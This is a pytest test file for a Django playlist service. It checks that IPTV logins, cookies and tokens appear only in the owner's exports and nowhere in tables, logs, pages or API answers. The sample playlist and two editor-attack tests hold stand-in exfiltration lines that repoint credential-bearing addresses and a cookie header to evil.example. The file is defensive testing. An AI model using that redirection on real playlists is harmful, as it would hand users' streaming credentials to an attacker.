"""A playlist with a login goes in over HTTP and comes out again: whole for its owner, and its secrets nowhere else."""

import io
import logging

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.urls import reverse
from rest_framework.test import APIClient

from lists import services
from lists.models import Account, Claim, Conflict, Entry, Item, MediaList, Membership, Proposal
from sync.models import Run
from sync.tasks import execute_run, prepare_upload

USER, PASSWORD = "ada1815", "lovelace-s3cret"
COOKIE, TOKEN, HOME = "hdnea=c00kie-s3cret", "t0ken-s3cret", "h0me-s3cret"
SECRETS = (USER, PASSWORD, COOKIE, TOKEN, HOME)
PLAYLIST = f"""#EXTM3U x-tvg-url="http://tv.example:8080/xmltv.php?username={USER}&password={PASSWORD}"
#EXTINF:-1 tvg-id="harbour.one" tvg-name="The "Harbour" One" tvg-logo="https://pictures.example/1.png?token={TOKEN}" tvg-chno="1" group-title="News, weather",Harbour One, the morning
http://tv.example:8080/live/{USER}/{PASSWORD}/101.ts
#EXTINF:-1 tvg-id="" catchup="xc" catchup-days="3" catchup-source="http://tv.example:8080/timeshift/{USER}/{PASSWORD}/60/{{utc}}/102.ts" group-title="News, weather",Harbour Two
#EXTVLCOPT:http-user-agent=Player
#EXTHTTP:{{"cookie":"{COOKIE}"}}
http://tv.example:8080/{USER}/{PASSWORD}/102
#EXTINF:-1 radio="true" group-title="Radio",Radio Lantern
http://ada:{HOME}@radio.example/lantern
#EXTINF:-1 group-title="VOD",Salt Rooms (1987)
http://tv.example:8080/movie/{USER}/{PASSWORD}/5001.mkv
#EXTINF:-1 group-title="Series",Quiet Maps S02E05
http://tv.example:8080/series/{USER}/{PASSWORD}/7001.mp4
#EXTINF:-1,----- SPORT -----
http://evil.example/{{username}}/{{password}}
#EXTINF:-1,Cut off http://tv.example:8080/live/{USER}/{PASSWORD}/9.ts
#EXTINF:-1,Harbour One, the morning
http://tv.example:8080/live/{USER}/{PASSWORD}/101.ts
"""  # fmt: skip
ADDRESSES = [line for line in PLAYLIST.splitlines() if line.startswith("http")][:6]


@pytest.fixture
def api():
    def api(user) -> APIClient:
        client = APIClient()
        client.force_authenticate(user)
        return client

    return api


@pytest.fixture
def bring(api, work, ines):
    """Upload a file over the API and confirm it; the run."""

    def bring(text: str, list_: MediaList | None = None, by=None) -> Run:
        client = api(by or ines)
        where = {"list": list_.pk} if list_ else {"list_name": "Evening"}
        file = SimpleUploadedFile("channels.txt", text.encode())
        answer = client.post("/api/v1/uploads/", {"file": file, **where}, format="multipart")
        assert answer.status_code == 202, answer.content
        work()
        answer = client.post(f"/api/v1/uploads/{answer.json()['id']}/confirm/")
        assert answer.status_code == 202, answer.content
        work()
        return Run.objects.latest("id")

    return bring


def exported(client: APIClient, list_: MediaList, key: str = "m3u") -> str:
    answer = client.get(f"/api/v1/lists/{list_.pk}/export/{key}/")
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content).decode()


def played(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def everything_stored() -> dict[str, str]:
    """Every row of every table, as the database gives it."""
    tables = {}
    with connection.cursor() as cursor:
        for model in apps.get_models(include_auto_created=True):
            table = model._meta.db_table
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")
            tables[table] = repr(
                [[bytes(c) if isinstance(c, memoryview) else c for c in row] for row in cursor.fetchall()]
            )
    return tables


def found_in(texts: dict[str, str]) -> list[tuple[str, str]]:
    return [(name, secret) for name, text in texts.items() for secret in SECRETS if secret in text]


@pytest.mark.covers("LIST-02", "SRC-23")
def test_a_playlist_comes_in_with_all_that_it_says(bring, api, ines):
    run = bring(PLAYLIST)
    assert (run.found, run.added, run.skipped, run.duplicates) == (6, 6, 1, 1)
    assert run.list.content == "channels"
    entries = list(Entry.objects.order_by("rank"))
    assert [(entry.title, entry.kind, entry.group) for entry in entries] == [
        ("Harbour One, the morning", "channel", "News, weather"),
        ("Harbour Two", "channel", "News, weather"),
        ("Radio Lantern", "radio", "Radio"),
        ("Salt Rooms", "movie", "VOD"),
        ("Quiet Maps S02E05", "episode", "Series"),
        ("----- SPORT -----", "channel", ""),
    ]
    assert (entries[3].year, entries[4].extra["season"], entries[4].extra["episode"]) == (1987, 2, 5)
    assert entries[0].extra["address"] == "http://tv.example:8080/live/{username}/{password}/101.ts"
    shown = api(ines).get(f"/api/v1/lists/{run.list_id}/entries/{entries[0].pk}/").json()
    assert (shown["values"]["title"], shown["values"]["channel_number"]) == ("Harbour One, the morning", 1)
    # An address with another login is the same channel.
    assert bring(PLAYLIST.replace(PASSWORD, "renewed-s3cret"), run.list).version is None
    renewed = exported(api(ines), run.list)
    assert "/live/ada1815/renewed-s3cret/101.ts" in renewed
    assert PASSWORD not in renewed


@pytest.mark.covers("SRC-23")
def test_the_owner_gets_addresses_that_play_and_others_get_names(bring, api, ines, jonas, staff):
    list_ = bring(PLAYLIST).list
    Membership.objects.create(list=list_, user=jonas, role=Membership.Role.EDITOR)
    mine = exported(api(ines), list_)
    assert played(mine) == ADDRESSES
    assert f'#EXTHTTP:{{"cookie":"{COOKIE}"}}' in mine.splitlines()
    assert f'tvg-logo="https://pictures.example/1.png?token={TOKEN}"' in mine
    assert f"/timeshift/{USER}/{PASSWORD}/60/{{utc}}/102.ts" in mine
    assert f"xmltv.php?username={USER}&password={PASSWORD}" in mine.splitlines()[0]
    for other in (jonas, staff):
        theirs = exported(api(other), list_)
        assert found_in({"theirs": theirs}) == []
        assert "http://tv.example:8080/live/{username}/{password}/101.ts" in played(theirs)
        assert "only the list's owner gets" in theirs.splitlines()[-1]
        assert theirs.splitlines()[-1].endswith(": 6")


@pytest.mark.parametrize("who", ["owner", "viewer"])
def test_either_export_read_back_changes_nothing(bring, api, ines, jonas, upload, who):
    list_ = bring(PLAYLIST).list
    Membership.objects.create(list=list_, user=jonas, role=Membership.Role.VIEWER)
    text = exported(api(ines if who == "owner" else jonas), list_)
    before = (list_.versions.count(), Entry.history.count(), Claim.objects.count(), dict(services.secrets_of(list_)[1]))
    proposal = upload(list_, text.encode(), adapter="", confirm=False)
    assert proposal.state == Proposal.State.OPEN, proposal.error
    own = proposal.result["own_export"]
    assert (own["rows"], own["changed"], own["removed"], own["added"], own["moved"], own["unread"]) == (
        6,
        0,
        0,
        0,
        False,
        0,
    )
    answer = api(ines).post(f"/api/v1/uploads/{proposal.pk}/confirm/")
    assert answer.status_code == 409
    assert "untouched" in answer.content.decode()
    after = (list_.versions.count(), Entry.history.count(), Claim.objects.count(), dict(services.secrets_of(list_)[1]))
    assert before == after
    # As a newer file of its source it says nothing new either: a name is as good as the login that it stands for.
    source = list_.sources.get(role="feed")
    run = upload(list_, text.encode(), adapter="", source=source)
    assert (run.added, run.removed) == (0, 0)


@pytest.mark.covers("SAFE-10")
def test_a_login_is_in_no_table_answer_log_or_page(bring, api, ines, jonas, staff, client, caplog, upload, capsys):
    caplog.set_level(logging.DEBUG)
    waiting = api(ines).post(
        "/api/v1/uploads/",
        {"file": SimpleUploadedFile("a.m3u", PLAYLIST.encode()), "list_name": "Waits"},
        format="multipart",
    )
    prepare_upload(waiting.json()["id"])
    list_ = bring(PLAYLIST).list
    bring(PLAYLIST.replace("Harbour Two", "Harbour 2"), list_)
    upload(list_, exported(api(ines), list_).replace("Harbour 2", "Harbour Deux").encode(), adapter="")
    services.rollback(list_, to=list_.versions.get(number=1), by=ines)
    execute_run(bring("#EXTM3U\n#EXTINF:-1,One\nhttp://ada:h0me-s3cret@tv.example/1", list_).pk)
    Membership.objects.create(list=list_, user=jonas, role=Membership.Role.EDITOR)

    stored = everything_stored()
    assert len(stored) > 30
    assert found_in(stored) == []
    assert "Harbour One" in stored[Entry._meta.db_table]

    answers = {}
    run = Run.objects.filter(list=list_).earliest("id")
    entry = Entry.objects.filter(list=list_).earliest("id")
    at_list = f"/api/v1/lists/{list_.pk}"
    paths = [
        "/api/v1/lists/", f"{at_list}/", f"{at_list}/entries/", f"{at_list}/entries/{entry.pk}/", f"{at_list}/sources/",
        f"{at_list}/versions/", f"{at_list}/conflicts/", f"{at_list}/audit/", "/api/v1/audit/", "/api/v1/uploads/",
        f"/api/v1/uploads/{waiting.json()['id']}/", "/api/v1/runs/", f"/api/v1/runs/{run.pk}/",
        f"{at_list}/export/json/", f"{at_list}/export/csv/",
    ]  # fmt: skip
    for user in (ines, jonas, staff):
        for path in paths:
            answer = api(user).get(path)
            body = b"".join(answer.streaming_content) if answer.streaming else answer.content
            answers[f"{user} {path} {answer.status_code}"] = body.decode()
    client.force_login(ines)
    pages = [
        ("lists:items", [list_.pk]), ("lists:settings", [list_.pk]), ("lists:entry", [list_.pk, entry.pk]),
        ("sync:preview", [waiting.json()["id"]]), ("sync:run", [run.pk]), ("lists:export", [list_.pk, "csv"]),
    ]  # fmt: skip
    for name, args in pages:
        answer = client.get(reverse(name, args=args))
        assert answer.status_code == 200, name
        body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        answers[name] = body.decode()
    client.force_login(staff)
    account = Account.objects.earliest("id")
    for path in (
        f"/admin/lists/account/{account.pk}/change/",
        f"/admin/lists/entry/{entry.pk}/change/",
        "/admin/lists/account/",
    ):
        answer = client.get(path)
        assert answer.status_code == 200, path
        answers[path] = answer.content.decode()
    assert len([path for path in answers if path.endswith(" 200")]) > 30
    assert found_in(answers) == []
    logged = "\n".join(f"{record.getMessage()} {record.__dict__}" for record in caplog.records)
    assert caplog.records
    assert found_in({"log": logged + repr(capsys.readouterr())}) == []


def test_the_preview_command_shows_no_login(tmp_path):
    path = tmp_path / "channels.m3u"
    path.write_text(PLAYLIST)
    for options in ([], ["--json"]):
        out, err = io.StringIO(), io.StringIO()
        call_command("preview", str(path), *options, stdout=out, stderr=err)
        assert "Harbour One" in out.getvalue()
        assert found_in({"out": out.getvalue(), "err": err.getvalue()}) == []


def test_an_editor_cannot_send_the_owners_login_elsewhere(bring, api, ines, jonas):
    list_ = bring(PLAYLIST).list
    Membership.objects.create(list=list_, user=jonas, role=Membership.Role.EDITOR)
    theirs = exported(api(jonas), list_)
    bring(theirs.replace("http://tv.example:8080/live", "http://evil.example/live"), list_, by=jonas)
    mine = exported(api(ines), list_)
    assert "http://evil.example/live/{username}/{password}/101.ts" in played(mine)
    assert mine.splitlines()[-1].endswith(": 2")


def test_an_editor_cannot_send_the_owners_cookie_elsewhere(bring, api, ines, jonas):
    list_ = bring(PLAYLIST).list
    assert f'{{"cookie":"{COOKIE}"}}' in exported(api(ines), list_)
    entry = Entry.objects.get(list=list_, title="Harbour One, the morning")
    options = '#EXTHTTP:{"cookie":"{cookie}"}'
    services.edit_entries(list_, {entry.pk: {"player_options": options, "address": "http://evil.example/1"}}, by=jonas)
    mine = exported(api(ines), list_)
    assert f"{options}\nhttp://evil.example/1" in mine
    assert mine.count(COOKIE) == 1


def test_copies_of_one_film_are_entries_of_one_film_and_ask_nothing(bring):
    def copies(*numbers: int) -> str:
        rows = (f"#EXTINF:-1,Salt Rooms (1987)\nhttp://tv.example/movie/ada/secret/{n}.mkv" for n in numbers)
        return "\n".join(["#EXTM3U", *rows])

    run = bring(copies(1, 2, 3))
    assert (run.added, run.list.once) == (3, False)
    run = bring(copies(4, 1, 2, 3), run.list)
    assert (run.added, run.removed) == (1, 0)
    assert Item.objects.get().title == "Salt Rooms"
    assert set(Entry.objects.values_list("item__title", "year")) == {("Salt Rooms", 1987)}
    assert Entry.objects.count() == 4
    assert not Conflict.objects.exists()


def test_a_music_list_becomes_a_tracklist_and_comes_out_as_one(bring, api, ines):
    text = "#EXTM3U\n#EXTINF:215,Ann Vale - Low Tide\nC:\\Music\\low tide.mp3\n#EXTINF:61,Bo - Bell\nmusic/bell.ogg\n"
    list_ = bring(text).list
    assert list_.content == "tracks"
    assert list(Entry.objects.order_by("rank").values_list("artist", "title", "runtime_s")) == [
        ("Ann Vale", "Low Tide", 215),
        ("Bo", "Bell", 61),
    ]
    out = exported(api(ines), list_)
    assert played(out) == ["C:\\Music\\low tide.mp3", "music/bell.ogg"]
    assert ",Ann Vale - Low Tide\n" in out


def test_the_inside_of_a_stream_is_refused_on_the_page_with_the_reason(client, ines, work):
    client.force_login(ines)
    file = SimpleUploadedFile("live.m3u8", b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nsegment1.ts\n")
    answer = client.post(reverse("sync:add"), {"file": file, "list_name": "Evening"})
    work()
    page = client.get(answer.headers["Location"]).content.decode()
    assert "the inside of one stream" in page
    assert not MediaList.objects.exists()


@pytest.mark.covers("WEB-02")
def test_channels_are_a_table_with_groups_to_choose_from(bring, client, ines):
    list_ = bring(PLAYLIST).list
    client.force_login(ines)
    page = client.get(f"/lists/{list_.pk}/").content.decode()
    groups = sorted(set(list_.entries.exclude(group="").values_list("group", flat=True)))
    assert groups
    assert all(f'<option value="{group}">{group} (' in page for group in groups)
    assert '<th scope="col" class="wide-only">Group</th>' in page
    shown = client.get(f"/lists/{list_.pk}/", {"group": groups[0]}).content.decode()
    for entry in list_.entries.all():
        assert (f"/entries/{entry.pk}/" in shown) == (entry.group == groups[0])
